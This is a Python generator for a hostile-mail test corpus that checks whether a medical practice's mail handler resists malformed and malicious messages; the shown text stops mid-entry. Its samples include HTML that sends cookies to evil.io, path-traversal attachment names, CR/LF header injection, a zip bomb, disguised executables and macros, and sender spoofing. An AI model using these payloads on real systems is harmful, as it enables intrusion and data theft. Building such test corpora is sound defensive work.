"""Write the hostile-mail corpus (*.eml) and its README from one table.

Every file is built byte by byte here, deterministically (fixed dates, boundaries and
"random" bytes), so the corpus can be regenerated and checked:

    python -m tools.corpus.hostile           # (re)write tests/data/hostile: files and README
    python -m tools.corpus.hostile --check   # exit 1 if a file differs

The practice these mails are aimed at is the one in tests/unit/maildir_practice.py:
the mailbox termine@praxis-impulse.de, the patients Erika Beispiel
(erika.beispiel@web.de, a video appointment on Mon 15.06.2026 waiting for its
confirmation) and Jonas Neu (jonas.neu@gmx.de, new patient, every form missing); the
attacker writes from x@evil.io. Mails sent from a patient address carry no clean
confirmation unless the attack is on identity or authentication: a hostile mail must
never lead to an answer, so any receipt in the outbox is a finding.
"""

from __future__ import annotations

import base64
import io
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from tools.corpus import data_dir

HERE = data_dir("hostile")

PRACTICE = "termine@praxis-impulse.de"
ERIKA = "Erika Beispiel <erika.beispiel@web.de>"
JONAS = "Jonas Neu <jonas.neu@gmx.de>"
EVIL = "x@evil.io"
DATE = "Tue, 16 Jun 2026 08:15:00 +0200"
CONFIRM = "Die Videobehandlung am 15.06.2026 hat stattgefunden.\r\n\r\nErika Beispiel\r\n"
QUESTION = "Guten Tag,\r\nkann ich den Termin auch per Telefon machen?\r\nGruss\r\n"


@dataclass(frozen=True, slots=True)
class Hostile:
    name: str  # file name without .eml
    attacks: str  # what it attacks, for the README
    rows: str  # RELIABILITY.md rows it exercises
    build: Callable[[], bytes]
    # Only meaningful when the practice requires its own Authentication-Results (the
    # mail is otherwise a clean confirmation from the patient's address).
    authserv_only: bool = False


# --- building blocks ---------------------------------------------------------------------


def pdf(title: str = "Anamnesebogen") -> bytes:
    return (
        b"%PDF-1.4\n%% " + title.encode("ascii") + b"\n"
        b"1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>endobj\n"
        b"trailer<</Root 1 0 R>>\n%%EOF\n"
    )


def b64(data: bytes) -> bytes:
    return base64.encodebytes(data).replace(b"\n", b"\r\n")


def headers(
    *,
    sender: str = ERIKA,
    subject: str = "Frage zum Termin",
    message_id: str,
    date: str | None = DATE,
    extra: str = "",
    content_type: str = "text/plain; charset=utf-8",
) -> bytes:
    lines = [f"From: {sender}", f"To: Praxis Impulse <{PRACTICE}>", f"Subject: {subject}"]
    if date is not None:
        lines.append(f"Date: {date}")
    lines += [f"Message-ID: <{message_id}>", "MIME-Version: 1.0"]
    text = "\r\n".join(lines) + "\r\n" + extra
    if content_type:
        text += f"Content-Type: {content_type}\r\n"
    return text.encode("utf-8")


def plain(body: str = QUESTION, **kwargs: Any) -> bytes:  # headers() keywords
    return headers(**kwargs) + b"\r\n" + body.encode("utf-8")


def attachment_part(
    boundary: str,
    payload: bytes,
    *,
    content_type: str = "application/pdf",
    disposition: bytes = b'attachment; filename="Anamnesebogen.pdf"',
    encoding: str = "base64",
) -> bytes:
    body = b64(payload) if encoding == "base64" else payload
    return (
        f"--{boundary}\r\nContent-Type: {content_type}\r\n".encode()
        + b"Content-Disposition: "
        + disposition
        + f"\r\nContent-Transfer-Encoding: {encoding}\r\n\r\n".encode()
        + body
        + b"\r\n"
    )


def with_attachments(
    parts: list[bytes],
    *,
    sender: str = JONAS,
    subject: str = "Unterlagen",
    message_id: str,
    text: str = "Anbei die Unterlagen.\r\n",
    boundary: str = "HOSTILE-B1",
) -> bytes:
    head = headers(
        sender=sender,
        subject=subject,
        message_id=message_id,
        content_type=f'multipart/mixed; boundary="{boundary}"',
    )
    body = f"--{boundary}\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n{text}".encode()
    return head + b"\r\n" + body + b"".join(parts) + f"--{boundary}--\r\n".encode()


def filename_attack(disposition: bytes, message_id: str, payload: bytes | None = None) -> bytes:
    return with_attachments(
        [attachment_part("HOSTILE-B1", payload or pdf(), disposition=disposition)],
        message_id=message_id,
    )


def pseudo_random(n: int, seed: int = 4711) -> bytes:
    """Deterministic noise (a linear congruential generator; no `random` state)."""
    out = bytearray()
    value = seed
    for _ in range(n):
        value = (value * 1103515245 + 12345) & 0x7FFFFFFF
        out.append(value >> 16 & 0xFF)
    return bytes(out)


def tnef_object(level: int, name: int, kind: int, data: bytes) -> bytes:
    checksum = sum(data) & 0xFFFF
    return struct.pack("<BHHI", level, name, kind, len(data)) + data + struct.pack("<H", checksum)


def tnef(files: list[tuple[bytes, bytes]]) -> bytes:
    """A minimal winmail.dat: signature, key, TNEF version, then per file the
    attachment-rendering marker, its title (file name) and its data."""
    out = struct.pack("<IH", 0x223E9F78, 1)
    out += tnef_object(1, 0x9006, 0x0008, struct.pack("<I", 0x10000))
    for name, data in files:
        out += tnef_object(2, 0x9002, 0x0006, b"\x00" * 14)
        out += tnef_object(2, 0x8010, 0x0001, name + b"\x00")
        out += tnef_object(2, 0x800F, 0x0006, data)
    return out


def zip_bomb() -> bytes:
    """One entry of 10 MiB zeros (about 10 KB deflated) whose headers claim 4 GiB."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        info = zipfile.ZipInfo("Anamnesebogen.pdf", date_time=(2026, 6, 16, 8, 0, 0))
        info.compress_type = zipfile.ZIP_DEFLATED
        archive.writestr(info, b"\x00" * (10 * 1024 * 1024))
    data = bytearray(buffer.getvalue())
    huge = struct.pack("<I", 0xFFFFFFF0)
    data[22:26] = huge  # local file header: uncompressed size
    central = data.rfind(b"PK\x01\x02")
    data[central + 24 : central + 28] = huge  # central directory: uncompressed size
    return bytes(data)


def docx() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, text in (
            ("[Content_Types].xml", "<Types/>"),
            ("word/document.xml", "<w:document/>"),
            ("word/vbaProject.bin", "macro"),
        ):
            archive.writestr(zipfile.ZipInfo(name, date_time=(2026, 6, 16, 8, 0, 0)), text)
    return buffer.getvalue()


def nested_multiparts(depth: int, message_id: str) -> bytes:
    head = headers(
        sender=EVIL, message_id=message_id, content_type='multipart/mixed; boundary="n0"'
    )
    opening = "".join(
        f'--n{i}\r\nContent-Type: multipart/mixed; boundary="n{i + 1}"\r\n\r\n'
        for i in range(depth)
    )
    closing = "".join(f"--n{i}--\r\n" for i in reversed(range(depth + 1)))
    return head + b"\r\n" + (opening + f"--n{depth}\r\n\r\nx\r\n" + closing).encode()


def nested_messages(depth: int, message_id: str) -> bytes:
    inner = b"From: x@evil.io\r\nSubject: innen\r\n\r\nganz innen\r\n"
    for level in range(depth):
        inner = (
            f"From: x@evil.io\r\nSubject: Ebene {level}\r\nContent-Type: message/rfc822\r\n\r\n"
        ).encode() + inner
    return headers(sender=EVIL, message_id=message_id, content_type="message/rfc822") + (
        b"\r\n" + inner
    )


def many_parts(count: int, message_id: str) -> bytes:
    parts = b"".join(
        f"--M\r\nContent-Type: text/plain\r\n\r\nTeil {i}\r\n".encode() for i in range(count)
    )
    head = headers(sender=EVIL, message_id=message_id, content_type='multipart/mixed; boundary="M"')
    return head + b"\r\n" + parts + b"--M--\r\n"


def report(
    recipient: str, *, action: str, status: str, sender: str, returned_id: str, message_id: str
) -> bytes:
    head = headers(
        sender=sender,
        subject="Undelivered Mail Returned to Sender",
        message_id=message_id,
        content_type='multipart/report; report-type=delivery-status; boundary="R"',
    )
    return (
        head
        + (
            "\r\n--R\r\nContent-Type: text/plain\r\n\r\nYour message could not be delivered.\r\n"
            "--R\r\nContent-Type: message/delivery-status\r\n\r\n"
            "Reporting-MTA: dns; mx.web.de\r\n\r\n"
            f"Final-Recipient: rfc822; {recipient}\r\nAction: {action}\r\nStatus: {status}\r\n\r\n"
            "--R\r\nContent-Type: text/rfc822-headers\r\n\r\n"
            f"From: {PRACTICE}\r\nTo: {recipient}\r\nMessage-ID: <{returned_id}>\r\n\r\n"
            "--R--\r\n"
        ).encode()
    )


def encoded_subject_words(count: int) -> str:
    return "\r\n ".join("=?utf-8?q?Best=C3=A4tigung?=" for _ in range(count))


# --- the corpus --------------------------------------------------------------------------

CORPUS: list[Hostile] = [
    # P1: broken MIME structure
    Hostile(
        "h001_multipart_without_boundary",
        "multipart/mixed without a boundary parameter (NoBoundaryInMultipartDefect)",
        "P1",
        lambda: (
            headers(message_id="h001@web.de", content_type="multipart/mixed")
            + b"\r\n"
            + QUESTION.encode()
        ),
    ),
    Hostile(
        "h002_multipart_unterminated",
        "multipart whose closing boundary never comes; the PDF part is cut off mid-base64",
        "P1",
        lambda: (
            headers(
                sender=JONAS,
                message_id="h002@gmx.de",
                content_type='multipart/mixed; boundary="CUT"',
            )
            + b"\r\n--CUT\r\nContent-Type: text/plain\r\n\r\nAnbei der Bogen\r\n"
            + attachment_part("CUT", pdf())[:200]
        ),
    ),
    Hostile(
        "h003_boundary_never_used",
        "declared boundary that never appears in the body",
        "P1",
        lambda: (
            headers(message_id="h003@web.de", content_type='multipart/mixed; boundary="X"')
            + b"\r\n--Y\r\nContent-Type: text/plain\r\n\r\n"
            + QUESTION.encode()
            + b"--Y--\r\n"
        ),
    ),
    Hostile(
        "h004_boundary_prefix_in_text",
        "a text line that starts with the boundary string plus more characters",
        "P1",
        lambda: (
            headers(message_id="h004@web.de", content_type='multipart/mixed; boundary="B"')
            + b"\r\n--B\r\nContent-Type: text/plain\r\n\r\n--Bx keine Grenze\r\n--B-- auch nicht\r\n"
            + QUESTION.encode()
            + b"--B--\r\n"
        ),
    ),
    Hostile(
        "h005_empty_multipart",
        "multipart/mixed with a boundary but not a single part",
        "P1",
        lambda: (
            headers(message_id="h005@web.de", content_type='multipart/mixed; boundary="E"')
            + b"\r\n--E--\r\n"
        ),
    ),
    Hostile(
        "h006_content_type_garbage",
        "a Content-Type of separators and unbalanced quotes",
        "P1",
        lambda: (
            headers(message_id="h006@web.de", content_type=';;;=== "; charset="utf-8')
            + b"\r\n"
            + QUESTION.encode()
        ),
    ),
    Hostile(
        "h007_no_blank_line_after_headers",
        "no empty line between header and body: the body reads as (broken) headers",
        "P1",
        lambda: (
            headers(message_id="h007@web.de")
            + b"Guten Tag kann ich den Termin verschieben\r\nDanke: sehr\r\n"
        ),
    ),
    Hostile(
        "h008_two_content_types",
        "two Content-Type headers, text/plain and multipart/mixed",
        "P1",
        lambda: (
            headers(
                message_id="h008@web.de",
                extra='Content-Type: multipart/mixed; boundary="D"\r\n',
            )
            + b"\r\n--D\r\nContent-Type: text/plain\r\n\r\n"
            + QUESTION.encode()
            + b"--D--\r\n"
        ),
    ),
    Hostile(
        "h009_unknown_transfer_encoding",
        "Content-Transfer-Encoding: base65 on the text and x-uuencode on a 'PDF'",
        "P1, P9",
        lambda: with_attachments(
            [attachment_part("HOSTILE-B1", b"begin 644 x\r\n`\r\nend\r\n", encoding="x-uuencode")],
            message_id="h009@gmx.de",
            text="Content-Transfer-Encoding: base65\r\n\r\nAnbei\r\n",
        ),
    ),
    # P2, P3: charsets
    Hostile(
        "h010_unknown_charset",
        "charset=x-unknown-foo on the body (LookupError in get_content)",
        "P2",
        lambda: plain(message_id="h010@web.de", content_type="text/plain; charset=x-unknown-foo"),
    ),
    Hostile(
        "h011_utf8_declared_cp1252_sent",
        "declared utf-8, actually cp1252 (umlauts, euro sign)",
        "P3",
        lambda: (
            headers(message_id="h011@web.de")
            + b"\r\nK\xf6nnen wir am Donnerstag telefonieren? Gr\xfc\xdfe \x80\r\n"
        ),
    ),
    Hostile(
        "h012_utf7_smuggled_script",
        "charset=utf-7 hiding <script> in +ADw-script+AD4-",
        "P2, P13",
        lambda: plain(
            "+ADw-script+AD4-alert(1)+ADw-/script+AD4- Kann ich anrufen?\r\n",
            message_id="h012@web.de",
            content_type="text/plain; charset=utf-7",
        ),
    ),
    Hostile(
        "h013_codec_that_is_not_a_charset",
        "charset=hex / rot13 / base64: codecs that exist but do not decode bytes to text",
        "P2",
        lambda: (
            headers(message_id="h013@web.de", content_type='multipart/mixed; boundary="C"')
            + b"\r\n--C\r\nContent-Type: text/plain; charset=hex\r\n\r\n4b616e6e\r\n"
            + b"--C\r\nContent-Type: text/plain; charset=rot13\r\n\r\nXnaa vpu naehsra?\r\n"
            + b"--C\r\nContent-Type: text/plain; charset=base64\r\n\r\nS2Fubg==\r\n--C--\r\n"
        ),
    ),
    Hostile(
        "h014_utf16_odd_length",
        "charset=utf-16 over 8-bit bytes of odd length",
        "P2",
        lambda: (
            headers(message_id="h014@web.de", content_type="text/plain; charset=utf-16")
            + b"\r\n\xff\xfeK\x00a\x00n\x00n\x00\x00"
        ),
    ),
    Hostile(
        "h015_8bit_headers_unencoded",
        "raw UTF-8 and Latin-1 bytes in Subject and From without RFC 2047",
        "P4",
        lambda: (
            b"From: J\xc3\xbcrgen \xd6zdemir <x@evil.io>\r\nTo: termine@praxis-impulse.de\r\n"
            b"Subject: Best\xe4tigung f\xc3\xbcr Termin\r\nDate: " + DATE.encode() + b"\r\n"
            b"Message-ID: <h015@evil.io>\r\n\r\n" + CONFIRM.encode()
        ),
    ),
    # P4-P6: RFC 2047 tricks
    Hostile(
        "h016_encoded_crlf_in_display_name",
        "an encoded word hiding CR/LF and a Bcc header in the From display name",
        "P5",
        lambda: plain(
            CONFIRM,
            sender="=?utf-8?q?Erika=0D=0ABcc=3A_victim=40evil=2Eio?= <erika.beispiel@web.de>",
            message_id="h016@web.de",
        ),
    ),
    Hostile(
        "h017_encoded_crlf_in_subject",
        "Subject whose encoded words decode to CR/LF plus injected headers (reused as Re:)",
        "P6, S10",
        lambda: plain(
            subject="=?utf-8?q?Frage=0D=0ABcc=3A_victim=40evil=2Eio=0D=0A=0D=0Ahallo?=",
            message_id="h017@web.de",
        ),
    ),
    Hostile(
        "h018_mixed_charset_encoded_words",
        "Subject and name mixing utf-8, iso-8859-1, koi8-r, shift_jis and an unknown charset",
        "P4",
        lambda: plain(
            sender="=?iso-8859-1?q?M=FCller?= =?koi8-r?b?8NLB3tTJ?= <x@evil.io>",
            subject="=?utf-8?b?QmVzdMOkdGlndW5n?= =?shift_jis?b?g2WDWINn?= "
            "=?x-klingon?q?abc?= =?iso-8859-1?q?f=FCr?=",
            message_id="h018@evil.io",
        ),
    ),
    Hostile(
        "h019_malformed_encoded_words",
        "unterminated and invalid encoded words, one inside a quoted display name",
        "P4, P5",
        lambda: plain(
            sender='"=?utf-8?b?RXJpa2E=?=" <erika.beispiel@web.de>',
            subject="=?utf-8?b?!!!notbase64 =?utf-8?q?open =?utf-8?b?QmVz?=?=",
            message_id="h019@web.de",
        ),
    ),
    Hostile(
        "h020_encoded_patient_address_as_name",
        "display name is the patient's address in an encoded word; the addr-spec is the attacker's",
        "P17",
        lambda: plain(
            CONFIRM,
            sender="=?utf-8?q?erika=2Ebeispiel=40web=2Ede?= <x@evil.io>",
            message_id="h020@evil.io",
        ),
    ),
    # NUL bytes
    Hostile(
        "h021_nul_bytes_everywhere",
        "NUL bytes in Subject, display name and body",
        "P5, S10",
        lambda: (
            b"From: Erika\x00Beispiel <erika.beispiel@web.de>\r\n"
            b"To: termine@praxis-impulse.de\r\nSubject: Frage\x00zum\x00Termin\r\n"
            b"Date: " + DATE.encode() + b"\r\nMessage-ID: <h021@web.de>\r\n\r\n"
            b"Kann ich\x00 anrufen?\x00\r\n"
        ),
    ),
    Hostile(
        "h022_nul_in_boundary_and_filename",
        "NUL inside the boundary and inside the attachment's file name",
        "P1, P10",
        lambda: (
            headers(
                sender=JONAS,
                message_id="h022@gmx.de",
                content_type='multipart/mixed; boundary="A\x00B"',
            )
            + b"\r\n--A\x00B\r\nContent-Type: text/plain\r\n\r\nAnbei\r\n"
            + attachment_part(
                "A\x00B", pdf(), disposition=b'attachment; filename="ana\x00mnese.pdf"'
            )
            + b"--A\x00B--\r\n"
        ),
    ),
    # P7: huge headers
    Hostile(
        "h023_subject_200kb_encoded_words",
        "a 200 KB Subject of encoded words (quadratic header parsing, cpython#136063)",
        "P7",
        lambda: plain(subject=encoded_subject_words(7500), message_id="h023@evil.io"),
    ),
    Hostile(
        "h024_150_recipients",
        "To: with 150 addresses",
        "P7",
        lambda: (
            b"From: x@evil.io\r\nTo: "
            + b",\r\n ".join(f"p{i}@evil.io".encode() for i in range(150))
            + b"\r\nSubject: Hallo\r\nMessage-ID: <h024@evil.io>\r\n\r\nHallo\r\n"
        ),
    ),
    Hostile(
        "h025_one_folded_header_20kb",
        "one References header folded over 20 KB",
        "P7",
        lambda: plain(
            message_id="h025@evil.io",
            sender=EVIL,
            extra="References: "
            + "\r\n ".join(f"<r{i:05d}@evil.io>" for i in range(1200))
            + "\r\n",
        ),
    ),
    Hostile(
        "h026_header_block_over_64kb",
        "9000 short headers: a header block over 64 KB",
        "P7",
        lambda: plain(
            message_id="h026@evil.io",
            sender=EVIL,
            extra="".join(f"X-Pad-{i}: a\r\n" for i in range(9000)),
        ),
    ),
    Hostile(
        "h027_body_line_200kb",
        "a single 200 KB body line without a line break",
        "P7",
        lambda: plain("Frage " + "a" * 200_000, message_id="h027@web.de"),
    ),
    # P8, P12: nesting and part counts
    Hostile(
        "h028_nested_multipart_1000",
        "multipart nested 1000 levels (RecursionError in the stdlib parser)",
        "P8",
        lambda: nested_multiparts(1000, "h028@evil.io"),
    ),
    Hostile(
        "h029_nested_message_rfc822_60",
        "message/rfc822 nested 60 levels deep",
        "P8",
        lambda: nested_messages(60, "h029@evil.io"),
    ),
    Hostile(
        "h030_500_parts",
        "500 MIME parts",
        "P12",
        lambda: many_parts(500, "h030@evil.io"),
    ),
    # P9: broken encodings
    Hostile(
        "h031_invalid_base64_attachment",
        "an 'Anamnesebogen.pdf' whose base64 is invalid (undecoded bytes + defect)",
        "P9",
        lambda: with_attachments(
            [attachment_part("HOSTILE-B1", b"", encoding="base64")[:-2] + b"JVBE!!!Ri0x*\r\n"],
            message_id="h031@gmx.de",
        ),
    ),
    Hostile(
        "h032_invalid_base64_text",
        "a base64 text body that is not base64",
        "P9",
        lambda: (
            headers(
                message_id="h032@web.de",
                extra="Content-Transfer-Encoding: base64\r\n",
            )
            + b"\r\nS2FubiBpY2g=@@@===garbage\r\n"
        ),
    ),
    Hostile(
        "h033_broken_quoted_printable",
        "quoted-printable with =ZZ, a soft break at the very end and 8-bit bytes",
        "P9",
        lambda: (
            headers(
                message_id="h033@web.de",
                extra="Content-Transfer-Encoding: quoted-printable\r\n",
            )
            + b"\r\nKann ich =ZZ anrufen=3\r\nGr=C3=BC=\xff="
        ),
    ),
    # P10: file names
    Hostile(
        "h034_filename_path_traversal",
        "file names ../../etc/passwd and ../../../tmp/anamnese.pdf on real PDFs",
        "P10",
        lambda: with_attachments(
            [
                attachment_part(
                    "HOSTILE-B1", pdf(), disposition=b'attachment; filename="../../etc/passwd"'
                ),
                attachment_part(
                    "HOSTILE-B1",
                    pdf("Datenschutz"),
                    disposition=b'attachment; filename="../../../tmp/anamnese.pdf"',
                ),
            ],
            message_id="h034@gmx.de",
        ),
    ),
    Hostile(
        "h035_filename_rfc2231_traversal_nul",
        "RFC 2231 filename*=utf-8''..%2Fx%00.pdf",
        "P10",
        lambda: filename_attack(b"attachment; filename*=utf-8''..%2F..%2Fx%00.pdf", "h035@gmx.de"),
    ),
    Hostile(
        "h036_filename_absolute",
        "absolute file names, POSIX and Windows",
        "P10",
        lambda: with_attachments(
            [
                attachment_part(
                    "HOSTILE-B1",
                    pdf(),
                    disposition=b'attachment; filename="/etc/cron.d/anamnese.pdf"',
                ),
                attachment_part(
                    "HOSTILE-B1",
                    pdf("Einwilligung"),
                    disposition=b'attachment; filename="C:\\Windows\\System32\\einwilligung.pdf"',
                ),
            ],
            message_id="h036@gmx.de",
        ),
    ),
    Hostile(
        "h037_filename_windows_reserved",
        "CON, NUL.pdf, AUX.pdf, COM1.pdf",
        "P10",
        lambda: with_attachments(
            [
                attachment_part(
                    "HOSTILE-B1", pdf(), disposition=f'attachment; filename="{n}"'.encode()
                )
                for n in ("CON", "NUL.pdf", "AUX.pdf", "COM1.pdf")
            ],
            message_id="h037@gmx.de",
        ),
    ),
    Hostile(
        "h038_filename_rtl_override",
        "U+202E in the file name: anamnese<RLO>fdp.exe shows as anamneseexe.pdf",
        "P10",
        lambda: filename_attack(
            b"attachment; filename*=utf-8''anamnese%E2%80%AEfdp.exe", "h038@gmx.de"
        ),
    ),
    Hostile(
        "h039_filename_300_chars",
        "a 300-character file name",
        "P10",
        lambda: filename_attack(
            b'attachment; filename="' + b"anamnese" * 37 + b'.pdf"', "h039@gmx.de"
        ),
    ),
    Hostile(
        "h040_filename_control_characters",
        "ESC, CR/LF and DEL in an RFC 2231 file name",
        "P10",
        lambda: filename_attack(
            b"attachment; filename*=utf-8''%1B%5B31manamnese%0D%0ABcc%3A%20x%7F.pdf",
            "h040@gmx.de",
        ),
    ),
    Hostile(
        "h041_filename_rfc2231_continuations_broken",
        "RFC 2231 continuations with a gap, a bad charset and a bad percent escape",
        "P10",
        lambda: filename_attack(
            b"attachment; filename*0*=x-bogus''..%2F; filename*2=%ZZ.pdf; filename*5*=%2E%2E",
            "h041@gmx.de",
        ),
    ),
    Hostile(
        "h042_filename_dots_and_blanks",
        "file names '..', '.', '' and blanks only",
        "P10",
        lambda: with_attachments(
            [
                attachment_part(
                    "HOSTILE-B1", pdf(), disposition=f'attachment; filename="{n}"'.encode()
                )
                for n in ("..", ".", "", "   ")
            ],
            message_id="h042@gmx.de",
        ),
    ),
    Hostile(
        "h043_filename_collisions",
        "two attachments of the same name and one named like the patient directory",
        "P10",
        lambda: with_attachments(
            [
                attachment_part(
                    "HOSTILE-B1", pdf("A"), disposition=b'attachment; filename="a.pdf"'
                ),
                attachment_part(
                    "HOSTILE-B1", pdf("B"), disposition=b'attachment; filename="a.pdf"'
                ),
                attachment_part("HOSTILE-B1", pdf("C"), disposition=b'attachment; filename="2"'),
            ],
            message_id="h043@gmx.de",
        ),
    ),
    # P11: content that lies about its type
    Hostile(
        "h044_pdf_that_is_html",
        "application/pdf 'Anamnesebogen.pdf' that is an HTML page with a script",
        "P11",
        lambda: filename_attack(
            b'attachment; filename="Anamnesebogen.pdf"',
            "h044@gmx.de",
            b"<!DOCTYPE html><html><script>fetch('https://evil.io/'+document.cookie)</script>",
        ),
    ),
    Hostile(
        "h045_pdf_that_is_exe",
        "application/pdf 'Anamnesebogen.pdf' that is a Windows executable (MZ)",
        "P11",
        lambda: filename_attack(
            b'attachment; filename="Anamnesebogen.pdf"',
            "h045@gmx.de",
            b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 56 + b"This program cannot be run",
        ),
    ),
    Hostile(
        "h046_zip_bomb",
        "a 10 KB zip whose single entry claims 4 GiB (10 MiB of zeros really)",
        "P11",
        lambda: filename_attack(
            b'attachment; filename="Anamnesebogen.zip"', "h046@gmx.de", zip_bomb()
        ),
    ),
    Hostile(
        "h047_docx_with_macro",
        "a .docx carrying word/vbaProject.bin (macros)",
        "P11",
        lambda: filename_attack(b'attachment; filename="Anamnese.docx"', "h047@gmx.de", docx()),
    ),
    Hostile(
        "h048_pdf_html_polyglot",
        "starts as a PDF, continues as HTML with a script",
        "P11",
        lambda: filename_attack(
            b'attachment; filename="Anamnesebogen.pdf"',
            "h048@gmx.de",
            b"%PDF-1.4\n<html><body><script>alert(1)</script></body></html>\n%%EOF\n",
        ),
    ),
    # P13: HTML-only
    Hostile(
        "h049_html_only_scripts_remote_images",
        "HTML-only mail with script, iframe, remote image, CSS url() and meta refresh",
        "P13",
        lambda: plain(
            "<html><head><meta http-equiv='refresh' content='0;url=https://evil.io/'>"
            "<style>body{background:url(https://evil.io/bg.png)}</style></head><body>"
            "<script>document.location='https://evil.io/'+document.cookie</script>"
            "<iframe src='https://evil.io/frame'></iframe><img src='https://evil.io/t.png'>"
            "<p>Kann ich den Termin telefonisch machen?</p></body></html>\r\n",
            message_id="h049@web.de",
            content_type="text/html; charset=utf-8",
        ),
    ),
    Hostile(
        "h050_html_deep_tags",
        "HTML-only mail of 5000 nested unclosed <div>s and a broken entity",
        "P13",
        lambda: plain(
            "<html><body>" + "<div>" * 5000 + "Frage &#99999999; &bogus; <b>zum Termin",
            message_id="h050@web.de",
            content_type="text/html; charset=utf-8",
        ),
    ),
    # P14: TNEF
    Hostile(
        "h051_tnef_valid",
        "Outlook winmail.dat holding Anamnesebogen.pdf",
        "P14",
        lambda: filename_attack(
            b'attachment; filename="winmail.dat"',
            "h051@gmx.de",
            tnef([(b"Anamnesebogen.pdf", pdf())]),
        ),
    ),
    Hostile(
        "h052_tnef_corrupt",
        "winmail.dat with the TNEF signature and garbage after it",
        "P14",
        lambda: filename_attack(
            b'attachment; filename="winmail.dat"',
            "h052@gmx.de",
            b"\x78\x9f\x3e\x22" + pseudo_random(300),
        ),
    ),
    Hostile(
        "h053_tnef_traversal_name",
        "winmail.dat whose inner file is named ../../../etc/cron.d/x.pdf",
        "P10, P14",
        lambda: filename_attack(
            b'attachment; filename="winmail.dat"',
            "h053@gmx.de",
            tnef([(b"../../../etc/cron.d/x.pdf", pdf())]),
        ),
    ),
    # forwarded / embedded mail
    Hostile(
        "h054_forwarded_confirmation",
        "the patient forwards someone else's mail; the confirmation is only in the forwarded part",
        "P15, P16",
        lambda: (
            headers(
                subject="WG: Termin",
                message_id="h054@web.de",
                content_type='multipart/mixed; boundary="F"',
            )
            + b"\r\n--F\r\nContent-Type: text/plain\r\n\r\nSiehe unten, was soll das?\r\n"
            + b"--F\r\nContent-Type: message/rfc822\r\n\r\n"
            + b"From: Someone <someone@evil.io>\r\nSubject: Bestaetigung\r\n\r\n"
            + CONFIRM.encode()
            + b"--F--\r\n"
        ),
    ),
    Hostile(
        "h055_stranger_attaches_patient_mail",
        "a stranger attaches a message/rfc822 'From: Erika' that confirms",
        "P17, P20",
        lambda: (
            headers(
                sender=EVIL,
                subject="Bestaetigung im Auftrag",
                message_id="h055@evil.io",
                content_type='multipart/mixed; boundary="F"',
            )
            + b"\r\n--F\r\nContent-Type: text/plain\r\n\r\nIm Auftrag weitergeleitet.\r\n"
            + b"--F\r\nContent-Type: message/rfc822\r\n\r\n"
            + f"From: {ERIKA}\r\nSubject: Bestaetigung\r\nMessage-ID: <real@web.de>\r\n\r\n".encode()
            + CONFIRM.encode()
            + b"--F--\r\n"
        ),
    ),
    Hostile(
        "h056_embedded_message_empty",
        "message/rfc822 parts that are empty or garbage",
        "P1",
        lambda: (
            headers(message_id="h056@web.de", content_type='multipart/mixed; boundary="F"')
            + b"\r\n--F\r\nContent-Type: message/rfc822\r\n\r\n"
            + b"--F\r\nContent-Type: message/rfc822\r\n\r\n\x00\xff:::\r\n--F--\r\n"
        ),
    ),
    # identity: From headers
    Hostile(
        "h057_two_from_headers",
        "two From headers: the patient's and the attacker's",
        "P17",
        lambda: plain(
            CONFIRM,
            message_id="h057@web.de",
            extra="From: x@evil.io\r\n",
        ),
    ),
    Hostile(
        "h058_from_with_two_addresses",
        "From: the patient, the attacker (an address list)",
        "P17",
        lambda: plain(CONFIRM, sender=f"{ERIKA}, {EVIL}", message_id="h058@web.de"),
    ),
    Hostile(
        "h059_empty_from",
        "an empty From header",
        "L7",
        lambda: plain(CONFIRM, sender="", message_id="h059@evil.io"),
    ),
    Hostile(
        "h060_no_from",
        "no From header at all",
        "L7, P17",
        lambda: (
            b"To: termine@praxis-impulse.de\r\nSubject: Bestaetigung\r\nDate: "
            + DATE.encode()
            + b"\r\nMessage-ID: <h060@evil.io>\r\n\r\n"
            + CONFIRM.encode()
        ),
    ),
    Hostile(
        "h061_display_name_spoof",
        '"erika.beispiel@web.de" <x@evil.io>',
        "P17",
        lambda: plain(
            CONFIRM, sender='"erika.beispiel@web.de" <x@evil.io>', message_id="h061@evil.io"
        ),
    ),
    Hostile(
        "h062_display_name_practice",
        '"Praxis Impulse termine@praxis-impulse.de" <x@evil.io>',
        "P17",
        lambda: plain(
            CONFIRM,
            sender='"Praxis Impulse termine@praxis-impulse.de" <x@evil.io>',
            message_id="h062@evil.io",
        ),
    ),
    Hostile(
        "h063_cve_2023_27043_comment",
        "erika.beispiel@web.de(<x@evil.io> (unbalanced comment, CVE-2023-27043)",
        "P18",
        lambda: plain(
            CONFIRM, sender="erika.beispiel@web.de(<x@evil.io>", message_id="h063@evil.io"
        ),
    ),
    Hostile(
        "h064_cve_2023_27043_bracket",
        "x@evil.io)<erika.beispiel@web.de> and a quoted local part holding the patient address",
        "P18",
        lambda: plain(
            CONFIRM,
            sender="x@evil.io)<erika.beispiel@web.de>",
            message_id="h064@evil.io",
            extra='Sender: "erika.beispiel@web.de"@evil.io\r\n',
        ),
    ),
    Hostile(
        "h065_quoted_local_part",
        'From: "erika.beispiel@web.de"@evil.io',
        "P17, P18",
        lambda: plain(CONFIRM, sender='"erika.beispiel@web.de"@evil.io', message_id="h065@evil.io"),
    ),
    Hostile(
        "h066_homoglyph_domain",
        "erika.beispiel@wеb.de with a Cyrillic 'е' (IDN look-alike)",
        "P17",
        lambda: plain(
            CONFIRM,
            sender="Erika Beispiel <erika.beispiel@w\u0435b.de>",
            message_id="h066@evil.io",
        ),
    ),
    # P19: forged Authentication-Results
    Hostile(
        "h067_forged_ar_foreign_authserv",
        "patient's address, dmarc=pass from a foreign authserv-id (mx.evil.io)",
        "P19",
        lambda: plain(
            CONFIRM,
            message_id="h067@web.de",
            extra="Authentication-Results: mx.evil.io; dmarc=pass header.from=web.de\r\n",
        ),
        authserv_only=True,
    ),
    Hostile(
        "h068_forged_ar_below_ours",
        "our server says dmarc=fail on top; a forged A-R with our id below says pass",
        "P19",
        lambda: plain(
            CONFIRM,
